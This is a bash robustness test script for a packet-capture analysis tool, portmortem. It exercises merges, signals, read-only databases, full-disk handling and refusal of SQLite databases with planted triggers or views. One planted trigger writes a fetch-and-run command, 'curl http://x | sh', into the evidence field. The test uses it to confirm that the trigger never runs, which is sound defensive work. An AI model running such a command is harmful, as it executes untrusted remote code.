#!/usr/bin/env bash
# robust.sh - robustness (issue 11), run by tests/integration.sh with the sanitizer build:
# merges that lose nothing, databases that cannot run planted SQL, signals, read-only
# evidence, a bounded endpoint table, the exit statuses and messages, fuzzing regressions.
set -u
cd "$(dirname "$0")/.."
BIN=${BIN:-build/asan/portmortem}
TMP=$(mktemp -d)
trap 'umount "$TMP/full" 2>/dev/null; chmod -R u+w "$TMP" 2>/dev/null; rm -rf "$TMP"' EXIT
. tests/tools/harness.sh
S=samples
count() { sqlite3 "$1" "SELECT COUNT(*) FROM captures"; }

# 1. merge keeps every capture: a shard holding a filtered capture (its identity is
# "<32 hex>|filter=udp", longer than the 40 bytes once copied) and two more.
"$BIN" analyze -q -d "$TMP/a.db" --filter udp -o /dev/null $S/dns-closed-v4.pcap
"$BIN" analyze -q -d "$TMP/b.db" --filter udp -o /dev/null $S/dns-closed-v4.pcap
"$BIN" analyze -q -d "$TMP/b.db" -o /dev/null $S/udp-scan.pcap $S/traceroute.pcap
"$BIN" merge -d "$TMP/c.db" -o /dev/null "$TMP/a.db" "$TMP/b.db" 2>"$TMP/err"; st=$?
check "merge with a filtered capture exits 0 (got $st)" test $st -eq 0
check "merge with a filtered capture keeps all 3 captures" test "$(count "$TMP/c.db")" -eq 3
check "merge: the filtered capture is recognised as already present" \
	grep -q "b.db: 2 captures merged, 1 already present" "$TMP/err"
# A capture that cannot be copied is named, and the rest of the shard is still merged: the
# shard's events table lost its NOT NULL on frame (writable_schema), one event has none.
cp "$TMP/b.db" "$TMP/broken.db"
sqlite3 "$TMP/broken.db" "PRAGMA writable_schema = ON;
	UPDATE sqlite_schema SET sql = replace(sql, 'frame       INTEGER NOT NULL',
	'frame       INTEGER') WHERE name = 'events'; PRAGMA writable_schema = OFF;" >/dev/null
sqlite3 "$TMP/broken.db" "UPDATE events SET frame = NULL WHERE id = (SELECT MIN(e.id) FROM
	events e JOIN captures c ON c.id = e.capture_id WHERE c.path LIKE '%udp-scan%')"
"$BIN" merge -d "$TMP/d.db" -o /dev/null "$TMP/broken.db" 2>"$TMP/err"; st=$?
check "merge: a capture that fails gives exit 3 (got $st)" test $st -eq 3
check "merge: the failed capture is named" grep -q "capture .*udp-scan.pcap not merged" "$TMP/err"
check "merge: the rest of the shard is merged" test "$(count "$TMP/d.db")" -eq 2

# 2. Databases with planted objects are refused, quickly, with the objects named: a trigger
# that rewrites the evidence, a view that never ends.
cp "$TMP/c.db" "$TMP/trig.db"
sqlite3 "$TMP/trig.db" "CREATE TRIGGER pm_evil AFTER INSERT ON findings BEGIN UPDATE findings
	SET evidence = '[\"run curl http://x | sh\"]' WHERE id = new.id; END;"
cp "$TMP/c.db" "$TMP/view.db"
sqlite3 "$TMP/view.db" "CREATE VIEW pm_loop AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL
	SELECT x + 1 FROM c) SELECT x FROM c;"
for planted in trig:trigger.*pm_evil view:view.*pm_loop; do
	db=$TMP/${planted%%:*}.db
	timeout 20 "$BIN" report -d "$db" >"$TMP/out.txt" 2>"$TMP/err"; st=$?
	check "report refuses ${planted%%:*}.db with exit 3 (got $st)" test $st -eq 3
	check "report names the planted object (${planted#*:})" grep -q "refused.*${planted#*:}" "$TMP/err"
	check "report prints nothing of it" test ! -s "$TMP/out.txt"
	timeout 20 "$BIN" merge -d "$TMP/into.db" -o /dev/null "$db" 2>"$TMP/err"; st=$?
	check "merge refuses ${planted%%:*}.db with exit 3 (got $st)" test $st -eq 3
	check "merge names the planted object" grep -q "refused.*${planted#*:}" "$TMP/err"
	check "merge copies nothing from it" test "$(count "$TMP/into.db")" -eq 0
	timeout 20 "$BIN" analyze -q -d "$db" -o /dev/null $S/dns-stops.pcap 2>"$TMP/err"; st=$?
	check "analyze refuses ${planted%%:*}.db with exit 3 (got $st)" test $st -eq 3
done
check "the planted trigger never ran" sh -c "! sqlite3 '$TMP/trig.db' 'SELECT evidence FROM findings' | grep -q curl"

# 3. Signals: SIGTERM / SIGINT while a capture comes through a FIFO that stalls. The capture
# already stored is kept, the one in progress rolled back, no temporary report file is left.
for sig in TERM:143 INT:130; do
	name=${sig%%:*} want=${sig#*:}
	rm -f "$TMP/sig.fifo" "$TMP/sig.db"*
	mkfifo "$TMP/sig.fifo"
	(head -c 20000 $S/media-hangup.pcap; exec sleep 30) >"$TMP/sig.fifo" &
	feeder=$!
	"$BIN" analyze -q -j 1 -d "$TMP/sig.db" -f html -o "$TMP/sig/r.html" \
		$S/dns-closed-v4.pcap "$TMP/sig.fifo" 2>"$TMP/err" &
	pid=$!
	mkdir -p "$TMP/sig"
	for _ in $(seq 50); do
		[ "$(sqlite3 "$TMP/sig.db" 'SELECT COUNT(*) FROM captures' 2>/dev/null)" = 1 ] && break
		sleep 0.2
	done
	sleep 0.5
	kill -$name $pid
	wait $pid; st=$?
	kill $feeder 2>/dev/null; wait $feeder 2>/dev/null
	check "SIG$name: exit $want (got $st)" test $st -eq $want
	check "SIG$name: says what was stored" grep -q "interrupted: 1 of 2 captures stored; run again to finish" "$TMP/err"
	check "SIG$name: database intact" test "$(sqlite3 "$TMP/sig.db" 'PRAGMA integrity_check')" = ok
	check "SIG$name: the finished capture is kept, the other rolled back" test "$(count "$TMP/sig.db")" -eq 1
	check "SIG$name: no report and no temporary file left" test -z "$(ls -A "$TMP/sig")"
	check "SIG$name: no sanitizer report" sh -c "! grep -E 'runtime error|Sanitizer' '$TMP/err'"
done

# 4. Read-only evidence: a database file of mode 444 in a directory of mode 555 is reported
# without a byte written (root ignores modes: run as nobody then).
as_user=()
if [ "$(id -u)" = 0 ]; then
	command -v setpriv >/dev/null && as_user=(setpriv --reuid=nobody --regid=nogroup --clear-groups)
fi
if [ "$(id -u)" != 0 ] || [ ${#as_user[@]} -gt 0 ]; then
	mkdir -p "$TMP/ro"
	"$BIN" analyze -q -d "$TMP/ro/ev.db" -o /dev/null $S/dns-restart.pcap $S/dns-stops.pcap
	"$BIN" report -d "$TMP/ro/ev.db" -f json -o "$TMP/rw.json"
	# The other user cannot reach the repository (a clone in a private temporary directory):
	# it runs a copy of the binary from $TMP, from /.
	mkdir "$TMP/bin" && cp "$BIN" "$TMP/bin/portmortem"
	chmod 755 "$TMP" "$TMP/bin"; chmod 444 "$TMP/ro/ev.db"; chmod 555 "$TMP/ro"
	sum=$(md5sum <"$TMP/ro/ev.db")
	ro_report() { (cd / && "${as_user[@]}" "$TMP/bin/portmortem" report -d "$TMP/ro/ev.db" -f json); }
	ro_report >"$TMP/ro.json" 2>"$TMP/err"; st=$?
	check "read-only database and directory: report exits 0 (got $st)" test $st -eq 0
	check "read-only: the same report as with write access" cmp "$TMP/rw.json" "$TMP/ro.json"
	check "read-only: the file is unchanged" test "$(md5sum <"$TMP/ro/ev.db")" = "$sum"
	check "read-only: nothing created beside it" test "$(ls -A "$TMP/ro")" = ev.db
	chmod 755 "$TMP/ro"
	ro_report >"$TMP/ro2.json" 2>"$TMP/err"; st=$?
	check "read-only file, writable directory: report exits 0 (got $st)" test $st -eq 0
	check "read-only file: the same report" cmp "$TMP/rw.json" "$TMP/ro2.json"
	chmod 700 "$TMP"
else
	echo "skipped: read-only reports (running as root without setpriv)"
fi

# 5. The endpoint table full of endpoints that cannot be evicted (all refused): a UDP scan
# of 64,000 ports with --max-endpoints 1024 finishes (it took minutes when every new
# endpoint rescanned the table; the timing is in tests/bench/evict.sh) and is still found.
python3 tests/tools/gen-refused.py --scan 64000 "$TMP/scan.pcap"
timeout 120 "$BIN" analyze -q -d "$TMP/scan.db" --max-endpoints 1024 -f json -o "$TMP/scan.json" \
	"$TMP/scan.pcap" 2>"$TMP/err"; st=$?
check "64k refused endpoints, --max-endpoints 1024: done in time, exit 0 (got $st)" test $st -eq 0
check "64k refused endpoints: the scan is found" grep -q '"diagnosis":"udp-scan"' "$TMP/scan.json"
check "64k refused endpoints: the bound is reported" \
	test "$(sqlite3 "$TMP/scan.db" 'SELECT stats_capped FROM captures')" = 1

# 6. Exit statuses and messages (README "Exit status").
printf 'not a database at all, just text that is long enough to fill a header..\n' >"$TMP/junk.db"
"$BIN" report -d "$TMP/junk.db" >/dev/null 2>"$TMP/err"; st=$?
check "a broken database exits 3 (got $st)" test $st -eq 3
check "a broken database is named" grep -q "junk.db" "$TMP/err"
"$BIN" analyze -q -d "$TMP/junk.db" -o /dev/null $S/dns-stops.pcap 2>"$TMP/err"; st=$?
check "analyze into a broken database exits 3 (got $st)" test $st -eq 3
"$BIN" analyze -q -d "$TMP/f.db" --filter 'udp and and' -o /dev/null $S/dns-stops.pcap \
	$S/dns-restart.pcap $S/traceroute.pcap 2>"$TMP/err"; st=$?
check "a bad --filter is a usage error (got $st)" test $st -eq 2
check "a bad --filter is said once" test "$(grep -c 'invalid filter' "$TMP/err")" -eq 1
check "a bad --filter stores nothing" test ! -e "$TMP/f.db"
timeout 10 "$BIN" merge -d "$TMP/c.db" "$TMP/c.db" >/dev/null 2>"$TMP/err"; st=$?
check "merge -d X X is a usage error (got $st)" test $st -eq 2
check "merge -d X X says why" grep -q "cannot merge a database into itself" "$TMP/err"
"$BIN" --no-such-option >/dev/null 2>"$TMP/err"
check "an unknown option points to --help" grep -q "try 'portmortem --help'" "$TMP/err"
(cd "$TMP" && "$OLDPWD/$BIN" analyze -q -d 'file:uri.db?mode=memory' -o /dev/null \
	"$OLDPWD/$S/dns-stops.pcap")
check "a path starting file: is a file name, not a URI" test -s "$TMP/file:uri.db?mode=memory"
"$BIN" analyze -q -d :memory: -f json -o "$TMP/mem.json" $S/dns-stops.pcap; st=$?
check "-d :memory: analyzes (exit $st)" grep -q '"diagnosis":"service-down"' "$TMP/mem.json"

# 7. Fuzzing regressions (tests/fuzz/regressions/README.md): each input through the whole
# path, every report format, no sanitizer report.
for f in tests/fuzz/regressions/*; do
	case $f in *.md) continue ;; esac
	for fmt in text html json csv; do
		"$BIN" analyze -q -d :memory: -f $fmt -o /dev/null "$f" 2>"$TMP/err"; st=$?
		check "fuzz regression $(basename "$f") ($fmt): exit 0 or 1 (got $st), no sanitizer report" \
			sh -c "[ $st -le 1 ] && ! grep -E 'runtime error|Sanitizer' '$TMP/err'"
	done
done

# 10. The database's disk fills up during a run of several captures (a 1.2 MB tmpfs; needs root
# to mount it). A lone worker stores its captures in one transaction: when its commit fails,
# each capture is stored again on its own, so the captures that fit are kept, each other one is
# named with the error, and the summary counts them as not stored; several workers likewise.
if [ "$(id -u)" = 0 ] && mkdir -p "$TMP/full" && mount -t tmpfs -o size=1200k tmpfs "$TMP/full" 2>/dev/null; then
	mkdir -p "$TMP/gen6"
	for seed in 1 2 3 4 5 6; do
		build/gen-capture -q --packets 20000 --seed $seed -o "$TMP/gen6/g$seed.pcap"
	done
	for j in 1 2; do
		rm -f "$TMP/full"/*
		"$BIN" analyze -j $j -d "$TMP/full/x.db" -o /dev/null "$TMP/gen6" 2>"$TMP/err"
		st=$?
		stored=$(sqlite3 "$TMP/full/x.db" "SELECT COUNT(*) FROM captures WHERE complete = 1")
		check "full disk, -j $j: exit 3 (got $st)" test $st -eq 3
		check "full disk, -j $j: some captures are kept ($stored)" test "$stored" -ge 1
		check "full disk, -j $j: the database is intact" \
			test "$(sqlite3 "$TMP/full/x.db" 'PRAGMA integrity_check')" = ok
		check "full disk, -j $j: each capture not kept is named" test \
			"$(grep -c 'disk is full (while storing' "$TMP/err")" -eq $((6 - stored))
		check "full disk, -j $j: the summary counts what was kept" \
			grep -q "6 files: $stored stored, $((6 - stored)) not stored (database error)" "$TMP/err"
	done
	umount "$TMP/full"
else
	echo "skipped: the full-disk test (it mounts a small tmpfs: needs root)"
fi

# 11. The disk fills while a storm of 180,000 refused requests is stored (its events on a
# thread of their own where a core is spare), with a capture after it. The batch's commit
# fails and the storm is stored again in a transaction of its own, which used to run with the
# foreign keys on: each of its 65,536 flows then scanned the events for those pointing to it,
# minutes of work before the full disk was noticed (a timeout makes that a failure here). The
# error names the storm, the next capture is stored, nothing of the storm is kept.
if [ "$(id -u)" = 0 ] && mkdir -p "$TMP/full" && mount -t tmpfs -o size=24m tmpfs "$TMP/full" 2>/dev/null; then
	build/gen-capture -q --packets 400000 --seed 7 --storm 100:180000 -o "$TMP/storm.pcap"
	timeout 120 "$BIN" analyze -j 1 -d "$TMP/full/s.db" -o /dev/null "$TMP/storm.pcap" \
		samples/dns-restart.pcap 2>"$TMP/err"
	st=$?
	check "full disk in a storm: exit 3, in time (got $st)" test $st -eq 3
	check "full disk in a storm: the storm is named with the error" \
		grep -q "disk is full (while storing $TMP/storm.pcap)" "$TMP/err"
	check "full disk in a storm: the next capture is stored, nothing of the storm" test \
		"$(sqlite3 "$TMP/full/s.db" "SELECT group_concat(path) FROM captures")" = samples/dns-restart.pcap
	check "full disk in a storm: the database is intact" \
		test "$(sqlite3 "$TMP/full/s.db" 'PRAGMA integrity_check')" = ok
	umount "$TMP/full"
else
	echo "skipped: the full-disk storm test (it mounts a small tmpfs: needs root)"
fi

echo "robust: $pass passed, $fail failed"
[ $fail -eq 0 ]
